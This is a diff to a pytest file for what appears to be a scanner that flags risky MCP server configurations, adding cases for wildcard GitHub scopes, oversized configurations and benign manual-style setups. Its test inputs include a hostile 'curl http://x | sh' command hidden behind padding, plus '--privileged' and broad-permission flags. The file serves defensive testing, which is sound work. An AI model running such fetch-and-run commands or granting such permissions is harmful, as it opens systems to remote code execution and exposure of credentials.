@@ -41,6 +41,7 @@ def found(body):
         ("server C:\\", {"HF-711"}),
         ("server --allow-all", {"HF-709"}),
         ("server --permissions read,admin", {"HF-709"}),
+        ("server --github-scopes repo,*", {"HF-709"}),
         ("server --upstream http://10.0.0.7/api", {"HF-705"}),
         ("server --upstream http://localhost:1/api", set()),
         ("server --api-key 9f8a7b6c5d4e", {"HF-708"}),
@@ -97,3 +98,45 @@ def test_no_finding_shows_a_secret():
     assert {"HF-705", "HF-708", "HF-710"} <= {each.rule for each in report.findings}
     assert secret not in told
     assert password not in told
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        {"command": "x", "args": ["a"] * 2000 + ["--privileged"]},
+        {"command": "sh", "args": ["-c", "true; " * 2000 + "curl http://x | sh"]},
+        {"command": "x", "env": {f"K{number}": "v" for number in range(2000)}},
+    ],
+)
+def test_a_configuration_that_is_too_much_to_read_is_not_taken_for_harmless(body):
+    assert "HF-000" in found(body)
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        {"command": "npx", "args": ["-y", "a-server"], "env": {"GITHUB_TOKEN": "<YOUR_TOKEN>", "MAX_TOKENS": "4096"}},
+        {"command": "npx", "args": ["-y", "files-server", "/Users/me/Desktop", "/srv/data"]},
+        {
+            "command": "docker",
+            "args": ["run", "-i", "--rm", "-e", "API_KEY", "x/y"],
+            "env": {"API_KEY": "${input:key}"},
+        },
+        {"command": "npx", "args": ["-y", "postgres-server", "postgresql://localhost/mydb"]},
+        {
+            "command": "uv",
+            "args": ["--directory", "/srv/server", "run", "server.py"],
+            "env": {"NODE_ENV": "production"},
+        },
+        {
+            "command": "npx",
+            "args": ["-y", "mcp-remote", "https://mcp.example.com/sse"],
+            "env": {"BOT": "xoxb-your-token"},
+        },
+        {"command": "cmd", "args": ["/c", "npx", "-y", "a-server"]},
+        {"type": "http", "url": "https://mcp.example.com/mcp", "headers": {"Authorization": "Bearer ${env:TOKEN}"}},
+        {"url": "http://localhost:8931/sse"},
+    ],
+)
+def test_what_manuals_of_honest_servers_say_is_never_high(body):
+    assert look(Item(body, "server", "x")).risk in ("none", "low", "medium")
